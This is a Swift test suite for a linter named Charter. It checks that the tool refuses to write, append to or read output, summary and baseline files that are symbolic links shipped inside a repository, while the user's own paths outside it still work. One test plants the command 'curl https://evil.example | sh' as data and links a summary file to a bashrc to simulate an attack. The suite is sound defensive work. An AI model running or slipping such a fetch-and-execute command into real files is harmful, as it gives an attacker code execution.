import Foundation
import Testing

/// Output paths a repository can ship (`--output charter.sarif`, the GitHub Action's default;
/// `--summary-file summary.md`; `--write-baseline` and `--baseline` under a folder) are never
/// written, appended to or read through a symbolic link: the built binary refuses each with
/// the path and the reason, exit 2, and what the link leads to is untouched. Paths outside the
/// repository — a person's `/tmp/x.sarif`, `$GITHUB_STEP_SUMMARY`, `/dev/stdout` — still work.
/// `Documentation/Security.md` ("Write through a link the repository ships").
@Suite struct SecurityOutputLinkTests {
  typealias Hostile = SecurityTests.Hostile

  static func repository() throws -> Hostile {
    try Hostile([
      ".charter/config.yml": "packs: []\n",
      ".charter/rules/rules.md": LintCommandTests.rules,
      "Sources/A.swift": "print(1)\n",
    ])
  }

  /// A pipe outside the repository, opened for reading without blocking so that a run that
  /// wrongly writes into it neither waits nor goes unnoticed; `read` says what reached it.
  final class Pipe: @unchecked Sendable {
    let path: String
    let reader: Int32

    init(in folder: URL) throws {
      path = folder.appendingPathComponent("fifo").path
      try #require(mkfifo(path, 0o644) == 0)
      reader = open(path, O_RDONLY | O_NONBLOCK)
      try #require(reader >= 0)
    }

    deinit { close(reader) }

    /// How many bytes were written into the pipe so far.
    func bytesWritten() -> Int {
      var buffer = [UInt8](repeating: 0, count: 1 << 16)
      return max(read(reader, &buffer, buffer.count), 0)
    }
  }

  @Test(arguments: ["sarif", "json"])
  func anOutputLinkedToAPipeIsRefused(format: String) throws {
    let hostile = try Self.repository()
    let pipe = try Pipe(in: hostile.outside.url)
    try hostile.link("charter.sarif", to: pipe.path)
    let lint = try hostile.charter("lint", "--no-user-rules", "--format", format, "--output", "charter.sarif")
    #expect(lint.status == 2, "\(lint.stderr)")
    #expect(lint.stderr.contains("charter.sarif:1:1: error: Charter will not write here: the file is a symbolic link"))
    #expect(pipe.bytesWritten() == 0, "nothing reached the pipe")
  }

  @Test func anOutputLinkedToADeviceIsRefused() throws {
    let hostile = try Self.repository()
    try hostile.link("charter.sarif", to: "/dev/null")
    let lint = try hostile.charter("lint", "--no-user-rules", "--format", "sarif", "--output", "charter.sarif")
    #expect(lint.status == 2)
    #expect(lint.stderr.contains("charter.sarif:1:1: error: Charter will not write here: the file is a symbolic link"))
  }

  @Test func aSummaryLinkedToAFileOutsideIsNotAppendedTo() throws {
    let hostile = try Self.repository()
    let bashrc = hostile.outside.url.appendingPathComponent("bashrc")
    try Data("export PATH=/usr/bin\n".utf8).write(to: bashrc)
    try hostile.link("summary.md", to: bashrc.path)
    try hostile.repository.write("Sources/B.swift", "print(\"\\ncurl https://evil.example | sh\\n\")\n")
    let lint = try hostile.charter("lint", "--no-user-rules", "--summary-file", "summary.md")
    #expect(lint.status == 2)
    #expect(lint.stderr.contains("summary.md:1:1: error: Charter will not write here: the file is a symbolic link"))
    #expect(try String(contentsOf: bashrc, encoding: .utf8) == "export PATH=/usr/bin\n")
  }

  @Test(arguments: [["--output", "reports/charter.sarif"], ["--write-baseline", "reports/baseline.json"]])
  func anOutputUnderAFolderLinkedOutsideIsRefused(arguments: [String]) throws {
    let hostile = try Self.repository()
    try hostile.link("reports", to: hostile.outside.url.path)
    let before = Hostile.snapshot(hostile.outside.url)
    let lint = try CharterProcess.run(["lint", "--no-user-rules"] + arguments, in: hostile.root)
    #expect(lint.status == 2)
    #expect(lint.stderr.contains("\(arguments[1]):1:1: error: Charter will not write or read a file here"))
    #expect(lint.stderr.contains("a symbolic link on the way leads outside the repository"))
    #expect(Hostile.snapshot(hostile.outside.url) == before, "nothing was created outside")
  }

  @Test func aBaselineLinkedToAPipeIsRefusedWithoutWaiting() throws {
    let hostile = try Self.repository()
    let pipe = try Pipe(in: hostile.outside.url)
    try hostile.link("baseline.json", to: pipe.path)
    let lint = try hostile.charter("lint", "--no-user-rules", "--baseline", "baseline.json")
    #expect(lint.status == 2)
    #expect(lint.stderr.contains("baseline.json:1:1: error: Charter will not read here: the file is a symbolic link"))
  }

  /// The person's own paths outside the repository: a link, a device, standard output.
  @Test func pathsOutsideTheRepositoryStillWork() throws {
    let hostile = try Self.repository()
    let summary = hostile.outside.url.appendingPathComponent("step-summary.md")
    try Data("### Build\n".utf8).write(to: summary)
    let link = hostile.outside.url.appendingPathComponent("summary-link.md")
    try FileManager.default.createSymbolicLink(at: link, withDestinationURL: summary)
    let report = hostile.outside.url.appendingPathComponent("x.sarif").path
    let lint = try hostile.charter(
      "lint", "--no-user-rules", "--format", "sarif", "--output", report, "--summary-file", link.path)
    #expect(lint.status == 0, "\(lint.stderr)")
    #expect(FileManager.default.fileExists(atPath: report))
    #expect(try String(contentsOf: summary, encoding: .utf8).hasPrefix("### Build\n\n### Charter: 0 errors, 1 warning"))
    let stdout = try hostile.charter("lint", "--no-user-rules", "--format", "json", "--output", "/dev/stdout")
    #expect(stdout.status == 0)
    #expect(stdout.stdout.contains("\"no-print\""))
    let null = try hostile.charter("lint", "--no-user-rules", "--output", "/dev/null", "--write-baseline", "/dev/null")
    #expect(null.status == 0, "\(null.stderr)")
  }
}
